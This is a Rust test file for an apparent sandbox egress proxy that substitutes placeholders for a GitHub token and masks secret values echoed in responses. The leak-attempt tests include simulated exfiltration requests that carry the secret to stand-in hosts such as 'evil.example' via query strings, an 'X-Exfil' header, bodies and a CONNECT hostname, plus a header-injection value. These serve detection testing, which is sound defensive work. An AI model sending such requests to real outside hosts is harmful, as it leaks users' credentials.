//! Placeholders, substitution in requests, leak attempts and the masking of responses.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use base64::Engine as _;

use super::*;

const VALUE: &str = "ghp_realTOKENvalue0123456789";

fn set() -> (SecretSet, String) {
    set_in(SecretPlaces::default())
}

fn set_in(places: SecretPlaces) -> (SecretSet, String) {
    let s = ProxySecret::new(
        "GITHUB_TOKEN",
        Secret::new(VALUE),
        vec![
            "api.github.com".parse().unwrap(),
            "*.githubusercontent.com".parse().unwrap(),
        ],
    )
    .unwrap()
    .substitute_in(places);
    let p = s.placeholder().to_string();
    (SecretSet::new(vec![s]), p)
}

#[test]
fn placeholders_are_random_plain_and_as_long_as_the_value() {
    let (a, pa) = set();
    let (_, pb) = set();
    assert_ne!(pa, pb);
    assert!(pa.starts_with(PLACEHOLDER_PREFIX));
    assert_eq!(pa.len(), VALUE.len());
    assert!(pa.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'));
    // Short values: all random, same length.
    let short = ProxySecret::new(
        "P",
        Secret::new("hunter22"),
        vec!["example.com".parse().unwrap()],
    )
    .unwrap();
    assert_eq!(short.placeholder().len(), 8);
    assert!(short
        .placeholder()
        .bytes()
        .all(|b| b.is_ascii_alphanumeric()));
    // Debug never shows the value.
    assert!(!format!("{a:?}").contains(VALUE));
}

#[test]
fn bad_secrets_are_refused() {
    let h = || vec!["example.com".parse().unwrap()];
    assert!(matches!(
        ProxySecret::new("S", Secret::new("short"), h()),
        Err(SecretError::TooShort { len: 5, .. })
    ));
    assert!(matches!(
        ProxySecret::new("S", Secret::new("long enough\r\nX-Evil: 1"), h()),
        Err(SecretError::BadByte { .. })
    ));
    assert!(matches!(
        ProxySecret::new("S", Secret::new("long enough"), vec![]),
        Err(SecretError::NoHosts { .. })
    ));
    assert!(matches!(
        ProxySecret::new("S", Secret::new("x".repeat(MAX_VALUE_LEN + 1)), h()),
        Err(SecretError::TooLong { .. })
    ));
}

#[test]
fn headers_query_and_cookies_are_substituted_for_a_bound_host() {
    let (s, p) = set_in("header,query".parse().unwrap());
    let head = format!(
        "GET /repos?access_token={p}&x=1 HTTP/1.1\r\nHost: api.github.com\r\n\
         Authorization: Bearer {p}\r\nCookie: a=1; tok={p}\r\nX-Other: plain\r\n\r\n"
    );
    let r = s
        .rewrite_head("api.github.com", 443, head.as_bytes())
        .unwrap();
    let out = String::from_utf8(r.head).unwrap();
    assert_eq!(
        out,
        format!(
            "GET /repos?access_token={VALUE}&x=1 HTTP/1.1\r\nHost: api.github.com\r\n\
             Authorization: Bearer {VALUE}\r\nCookie: a=1; tok={VALUE}\r\nX-Other: plain\r\n\r\n"
        )
    );
    let places: Vec<String> = r
        .substitutions
        .iter()
        .map(|s| s.place.to_string())
        .collect();
    assert_eq!(
        places,
        ["request target", "header authorization", "header cookie"]
    );
    assert!(r.substitutions.iter().all(|x| x.secret == "GITHUB_TOKEN"));
    // A wildcard binding.
    assert!(s
        .rewrite_head("raw.githubusercontent.com", 443, head.as_bytes())
        .is_ok());
}

#[test]
fn basic_credentials_are_decoded_substituted_and_encoded() {
    let (s, p) = set();
    let b64 = base64::engine::general_purpose::STANDARD;
    let head = format!(
        "GET /repo.git/info/refs HTTP/1.1\r\nAuthorization: Basic {}\r\n\r\n",
        b64.encode(format!("x-access-token:{p}"))
    );
    let r = s
        .rewrite_head("api.github.com", 443, head.as_bytes())
        .unwrap();
    let out = String::from_utf8(r.head).unwrap();
    let cred = out
        .lines()
        .find_map(|l| l.strip_prefix("Authorization: Basic "))
        .unwrap();
    assert_eq!(
        b64.decode(cred).unwrap(),
        format!("x-access-token:{VALUE}").into_bytes()
    );
    assert_eq!(
        r.substitutions[0].place,
        Place::BasicCredentials("authorization".into())
    );
    // To another host, the hidden placeholder is still found.
    let e = s
        .rewrite_head("attacker.example", 443, head.as_bytes())
        .unwrap_err();
    assert_eq!(e.place, Place::BasicCredentials("authorization".into()));
}

#[test]
fn a_placeholder_to_an_unbound_host_is_a_leak_attempt() {
    let (s, p) = set();
    for head in [
        format!("GET /?t={p} HTTP/1.1\r\nHost: evil.example\r\n\r\n"),
        format!("POST / HTTP/1.1\r\nX-Exfil: {p}\r\n\r\n"),
    ] {
        let e = s
            .rewrite_head("evil.example", 80, head.as_bytes())
            .unwrap_err();
        assert_eq!(e.secret, "GITHUB_TOKEN");
        assert!(e.to_string().contains("evil.example:80"), "{e}");
        assert!(!e.to_string().contains(VALUE));
    }
    // The right name on the wrong port is another destination.
    let bound_port: SecretSet = SecretSet::new(vec![ProxySecret::new(
        "T",
        Secret::new(VALUE),
        vec!["api.example:443".parse().unwrap()],
    )
    .unwrap()]);
    let p2 = bound_port.secrets()[0].placeholder().to_string();
    let head = format!("GET /?t={p2} HTTP/1.1\r\n\r\n");
    assert!(bound_port
        .rewrite_head("api.example", 8443, head.as_bytes())
        .is_err());
    assert!(bound_port
        .rewrite_head("api.example", 443, head.as_bytes())
        .is_ok());
    // A body too.
    let e = s
        .rewrite_body("evil.example", 443, format!("{{\"k\":\"{p}\"}}").as_bytes())
        .unwrap_err();
    assert_eq!(e.place, Place::Body);
    // Nothing to see: unchanged, no substitutions.
    let plain = b"GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n";
    let r = s.rewrite_head("evil.example", 80, plain).unwrap();
    assert_eq!(r.head, plain);
    assert!(r.substitutions.is_empty());
}

#[test]
fn a_placeholder_is_located_precisely_whatever_the_destination() {
    let (s, p) = set();
    let b64 = base64::engine::general_purpose::STANDARD;
    let cases = [
        (
            format!("CONNECT {p}.evil.example:443 HTTP/1.1\r\n\r\n"),
            "",
            Place::Target,
        ),
        (
            format!("GET / HTTP/1.1\r\nHost: x\r\nX-Exfil: a{p}b\r\n\r\n"),
            "",
            Place::Header("x-exfil".into()),
        ),
        (
            format!(
                "GET / HTTP/1.1\r\nProxy-Authorization: Basic {}\r\n\r\n",
                b64.encode(format!("u:{p}"))
            ),
            "",
            Place::BasicCredentials("proxy-authorization".into()),
        ),
        (
            "POST / HTTP/1.1\r\n\r\n".to_string(),
            p.as_str(),
            Place::Body,
        ),
    ];
    for (head, body, want) in cases {
        let (name, place) = s.locate(head.as_bytes(), body.as_bytes()).unwrap();
        assert_eq!((name, &place), ("GITHUB_TOKEN", &want), "{head}");
        // Even to a bound host: what `locate` reports does not depend on one.
        let l = s
            .leak_attempt(head.as_bytes(), body.as_bytes(), "api.github.com", 443)
            .unwrap();
        assert_eq!(
            (l.host.as_str(), l.port, l.place),
            ("api.github.com", 443, want)
        );
    }
    assert!(s
        .locate(b"GET / HTTP/1.1\r\nAuthorization: Basic !!\r\n\r\n", b"x")
        .is_none());
}

#[test]
fn values_are_masked_with_several_secrets_overlapping_and_repeated() {
    let a = ProxySecret::new(
        "A",
        Secret::new("abcdefgh12345678"),
        vec!["h.example".parse().unwrap()],
    )
    .unwrap();
    // B's value starts inside A's.
    let b = ProxySecret::new(
        "B",
        Secret::new("12345678zzzzzzzz"),
        vec!["h.example".parse().unwrap()],
    )
    .unwrap();
    let (pa, pb) = (a.placeholder().to_owned(), b.placeholder().to_owned());
    let set = SecretSet::new(vec![a, b]);
    let text = "x abcdefgh12345678zzzzzzzz 12345678zzzzzzzz abcdefgh12345678abcdefgh12345678";
    // A wins where it starts first; B's own occurrences are still found after it.
    let want = format!("x {pa}zzzzzzzz {pb} {pa}{pa}");
    for split in 0..text.len() {
        let mut m = set.masker("h.example", 443);
        let mut out = Vec::new();
        m.push_into(&text.as_bytes()[..split], &mut out);
        m.push_into(&text.as_bytes()[split..], &mut out);
        out.extend(m.finish());
        assert_eq!(String::from_utf8(out).unwrap(), want, "split at {split}");
        assert_eq!(m.masked(), 4);
    }
}

#[test]
fn bodies_are_substituted_and_keep_their_length() {
    let (s, p) = set_in(SecretPlaces::ALL);
    let body = format!("{{\"token\":\"{p}\",\"again\":\"{p}\"}}");
    let (out, subs) = s
        .rewrite_body("api.github.com", 443, body.as_bytes())
        .unwrap();
    assert_eq!(
        String::from_utf8(out.clone()).unwrap(),
        format!("{{\"token\":\"{VALUE}\",\"again\":\"{VALUE}\"}}")
    );
    assert_eq!(subs.len(), 1);
    // Same length: the request's framing stays valid.
    assert_eq!(out.len(), body.len());
}

#[test]
fn echoed_values_are_masked_even_split_across_reads() {
    let (s, p) = set();
    let response = format!("{{\"echo\":\"Bearer {VALUE}\",\"twice\":\"{VALUE}{VALUE}\"}}");
    let want = format!("{{\"echo\":\"Bearer {p}\",\"twice\":\"{p}{p}\"}}");
    // Every split into up to three chunks.
    let bytes = response.as_bytes();
    for a in 0..bytes.len() {
        for b in [a, (a + 7).min(bytes.len()), bytes.len()] {
            let mut m = s.masker("api.github.com", 443);
            let mut out = m.push(&bytes[..a]);
            out.extend(m.push(&bytes[a..b]));
            out.extend(m.push(&bytes[b..]));
            out.extend(m.finish());
            assert_eq!(String::from_utf8(out).unwrap(), want, "split at {a},{b}");
            assert_eq!(m.masked(), 3);
        }
    }
    // One byte at a time.
    let mut m = s.masker("api.github.com", 443);
    let mut out = Vec::new();
    for b in bytes {
        out.extend(m.push(std::slice::from_ref(b)));
    }
    out.extend(m.finish());
    assert_eq!(String::from_utf8(out).unwrap(), want);
    // Text that cannot begin a value is never held back.
    let mut m = s.masker("api.github.com", 443);
    assert_eq!(m.push(b"plain text, ends here"), b"plain text, ends here");
    assert!(!m.holding());
    // A tail that could: held, however long nothing follows, until the end of what is
    // masked (never given up on by time: the rest may still come).
    assert_eq!(m.push(b"then ghp_re"), b"then ");
    assert!(m.holding());
    assert_eq!(m.push(b""), b"");
    assert_eq!(m.finish(), b"ghp_re");
    assert!(!m.holding());
    // Another host's response is not touched (its secrets are not bound there).
    let mut m = s.masker("other.example", 443);
    assert!(!m.is_active());
    assert_eq!(m.push(bytes), bytes);
}

#[test]
fn only_granted_places_are_substituted() {
    let head_with = |p: &str| {
        format!(
            "POST /x?t={p} HTTP/1.1\r\nHost: api.github.com\r\nAuthorization: Bearer {p}\r\n\
             Authorization: Basic {}\r\n\r\n",
            base64::engine::general_purpose::STANDARD.encode(format!("u:{p}"))
        )
    };
    // Default: headers (Basic credentials included), not the target, not the body.
    let (s, p) = set();
    assert_eq!(s.secrets()[0].places(), SecretPlaces::HEADERS);
    let r = s
        .rewrite_head("api.github.com", 443, head_with(&p).as_bytes())
        .unwrap();
    let out = String::from_utf8(r.head).unwrap();
    assert!(out.starts_with(&format!("POST /x?t={p} ")), "{out}");
    assert!(out.contains(&format!("Bearer {VALUE}\r\n")), "{out}");
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("u:{VALUE}"));
    assert!(out.contains(&format!("Basic {basic}\r\n")), "{out}");
    let body = format!("{{\"t\":\"{p}\"}}");
    let (b, subs) = s
        .rewrite_body("api.github.com", 443, body.as_bytes())
        .unwrap();
    assert_eq!(b, body.as_bytes());
    assert!(subs.is_empty());
    // Body only.
    let (s, p) = set_in("body".parse().unwrap());
    let r = s
        .rewrite_head("api.github.com", 443, head_with(&p).as_bytes())
        .unwrap();
    assert!(r.substitutions.is_empty());
    assert_eq!(r.head, head_with(&p).as_bytes());
    let body = format!("{{\"t\":\"{p}\"}}");
    let (b, subs) = s
        .rewrite_body("api.github.com", 443, body.as_bytes())
        .unwrap();
    assert_eq!(b, format!("{{\"t\":\"{VALUE}\"}}").as_bytes());
    assert_eq!(subs[0].place, Place::Body);
    // Not granted is no licence to send it elsewhere: still a leak attempt.
    assert!(s
        .rewrite_head("evil.example", 443, head_with(&p).as_bytes())
        .is_err());
    let (s, p) = set();
    assert!(s.rewrite_body("evil.example", 443, p.as_bytes()).is_err());
}

#[test]
fn encoded_forms_of_a_value_are_masked_at_every_alignment_and_split() {
    use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
    // A value whose base64 uses `+` and `/`, with bytes percent-encoding must escape.
    let value = "s3cr3t/+?&=~val\u{00e9}ue>>>???";
    let s = ProxySecret::new("K", Secret::new(value), vec!["h.example".parse().unwrap()]).unwrap();
    let ph = s.placeholder().to_owned();
    let set = SecretSet::new(vec![s]);
    let pct = |x: &str, all: bool| -> String {
        x.bytes()
            .map(|b| {
                if !all && (b.is_ascii_alphanumeric() || b"-._~".contains(&b)) {
                    char::from(b).to_string()
                } else {
                    format!("%{b:02X}")
                }
            })
            .collect()
    };
    let mut encoded: Vec<String> = vec![
        value.to_owned(),
        value.bytes().map(|b| format!("{b:02x}")).collect(),
        value.bytes().map(|b| format!("{b:02X}")).collect(),
        pct(value, false),
        pct(value, false).to_lowercase(),
        pct(value, true),
    ];
    // base64 at each alignment: 0, 1 or 2 bytes before the value, and after it.
    for before in ["", "a", "ab"] {
        for after in ["", "z", "zy"] {
            let text = format!("{before}{value}{after}");
            encoded.push(STANDARD.encode(&text));
            encoded.push(URL_SAFE_NO_PAD.encode(&text));
        }
    }
    // As JSON, the way a contents API answers.
    encoded.push(format!(
        "{{\"content\":\"{}\"}}",
        STANDARD.encode(format!("token: {value}\n"))
    ));
    for form in &encoded {
        let response = format!("<<{form}>>");
        for split in 0..response.len() {
            let mut m = set.masker("h.example", 443);
            let mut out = m.push(&response.as_bytes()[..split]);
            out.extend(m.push(&response.as_bytes()[split..]));
            out.extend(m.finish());
            assert_eq!(out.len(), response.len(), "{form}: lengths are kept");
            let out = String::from_utf8_lossy(&out).into_owned();
            assert!(m.masked() >= 1, "{form} at {split}: {out}");
            assert_ne!(out, response, "{form} at {split}");
            // Nothing of the encoded value survives but a few bits at its ends: decoded,
            // the output never holds the value.
            for candidate in decodings(&out) {
                assert!(
                    !candidate
                        .windows(value.len())
                        .any(|w| w == value.as_bytes()),
                    "{form} at {split}: {out}"
                );
                // ... and its middle is the placeholder's.
                let _ = &ph;
            }
        }
    }
    // Ordinary text is left alone.
    let mut m = set.masker("h.example", 443);
    let plain = b"nothing to see here, 0123456789abcdef %41%42 QUJD";
    let mut out = m.push(plain);
    out.extend(m.finish());
    assert_eq!(out, plain);
    assert_eq!(m.masked(), 0);
}

/// Every way the tests above could read a value back out of `text`.
fn decodings(text: &str) -> Vec<Vec<u8>> {
    use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE_NO_PAD};
    let mut out = vec![text.as_bytes().to_vec()];
    let inner = text.trim_start_matches('<').trim_end_matches('>');
    let inner = inner
        .strip_prefix("{\"content\":\"")
        .and_then(|x| x.strip_suffix("\"}"))
        .unwrap_or(inner)
        .trim_end_matches('=');
    for e in [&STANDARD_NO_PAD, &URL_SAFE_NO_PAD] {
        if let Ok(d) = e.decode(inner) {
            out.push(d);
        }
    }
    let unhex = |x: &str| -> Option<Vec<u8>> {
        (0..x.len())
            .step_by(2)
            .map(|i| u8::from_str_radix(x.get(i..i + 2)?, 16).ok())
            .collect()
    };
    if let Some(d) = unhex(inner) {
        out.push(d);
    }
    let mut pct = Vec::new();
    let b = inner.as_bytes();
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' {
            if let Some(v) = inner
                .get(i + 1..i + 3)
                .and_then(|h| u8::from_str_radix(h, 16).ok())
            {
                pct.push(v);
                i += 3;
                continue;
            }
        }
        pct.push(b[i]);
        i += 1;
    }
    out.push(pct);
    out
}

#[test]
fn a_longer_form_still_arriving_wins_over_a_shorter_complete_one() {
    // Two values, one the start of the other: the shorter is complete at the end of
    // the first chunk, but the longer may still come.
    let a = ProxySecret::new(
        "A",
        Secret::new("abcdefgh"),
        vec!["h.example".parse().unwrap()],
    )
    .unwrap();
    let b = ProxySecret::new(
        "B",
        Secret::new("abcdefgh-and-more"),
        vec!["h.example".parse().unwrap()],
    )
    .unwrap();
    let pb = b.placeholder().to_owned();
    let set = SecretSet::new(vec![a, b]);
    let mut m = set.masker("h.example", 443);
    let mut out = m.push(b"x abcdefgh");
    assert_eq!(out, b"x ");
    out.extend(m.push(b"-and-more y"));
    out.extend(m.finish());
    assert_eq!(String::from_utf8(out).unwrap(), format!("x {pb} y"));
}

#[test]
fn maskers_share_what_they_search_for() {
    let (s, _) = set();
    let (a, b) = (
        s.masker("api.github.com", 443),
        s.masker("api.github.com", 443),
    );
    assert!(Arc::ptr_eq(&a.masks, &b.masks));
    let c = s.clone().masker("raw.githubusercontent.com", 443);
    assert!(
        Arc::ptr_eq(&a.masks, &c.masks),
        "the same secrets are bound there"
    );
    assert!(!s.masker("other.example", 443).is_active());
}

/// `cargo test --release -p sandbox-egress --lib masker_throughput -- --ignored --nocapture`
#[test]
#[ignore = "a measurement, not a check"]
fn masker_throughput() {
    let (s, _) = set();
    let chunk = vec![b'x'; 64 * 1024];
    let text: Vec<u8> = (0..64 * 1024u32)
        .map(|i| b"The quick brown fox {\"id\": 12345, \"n\": \"abc\"}\n"[i as usize % 44])
        .collect();
    for (what, data) in [("x", &chunk), ("json-ish text", &text)] {
        let rounds = 4096; // 256 MiB
        let mut out = Vec::with_capacity(data.len() + 4096);
        let mut m = s.masker("api.github.com", 443);
        let t = std::time::Instant::now();
        for _ in 0..rounds {
            out.clear();
            m.push_into(data, &mut out);
        }
        let masked = t.elapsed();
        // What one search of the literal value and a copy cost (the masker before it
        // looked for encoded forms).
        let f = memchr::memmem::Finder::new(VALUE.as_bytes());
        let t = std::time::Instant::now();
        let mut found = 0;
        for _ in 0..rounds {
            out.clear();
            found += usize::from(f.find(data).is_some());
            out.extend_from_slice(data);
        }
        let literal = t.elapsed();
        let mib = (rounds * data.len()) as f64 / (1 << 20) as f64;
        eprintln!(
            "{what}: all forms {:.0} MiB/s, literal only {:.0} MiB/s ({found})",
            mib / masked.as_secs_f64(),
            mib / literal.as_secs_f64()
        );
    }
}
